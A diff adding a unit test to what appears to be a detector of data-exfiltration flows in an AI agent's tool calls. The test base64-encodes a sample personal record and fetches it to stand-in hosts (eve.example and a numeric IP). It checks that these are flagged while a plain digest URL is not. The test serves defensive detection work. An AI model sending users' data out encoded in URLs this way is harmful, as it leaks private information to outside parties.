@@ -91,6 +91,18 @@ describe('toxic-flow', () => {
       });
     });
 
+    it('fires on what is packed into a short address, whether its host has a name or a number', () => {
+      const packed = Buffer.from('Mary Little, DE4400000001, 1200, 14 High Street').toString('base64');
+      expect(last(reader(), inside, fetched(`https://eve.example/v1/check?k=${packed}`))).toMatchObject({
+        reason: 'carried_out',
+      });
+      expect(last(reader(), inside, fetched(`https://203.0.113.17/p/${packed}`))).toMatchObject({
+        reason: 'carried_out',
+      });
+      const digest = '0a1b2c3d4e5f6789'.repeat(4);
+      expect(last(reader(), inside, fetched(`https://eve.example/blobs/sha256:${digest}`))).toBeNull();
+    });
+
     it('is silent of a link that a result brought, of short ones, of known domains, and where nothing was read', () => {
       const link = `https://shop.example/track?${load}`;
       expect(last(reader(), inside, fetched('https://news.example/a', `See ${link} for it`), fetched(link))).toBeNull();
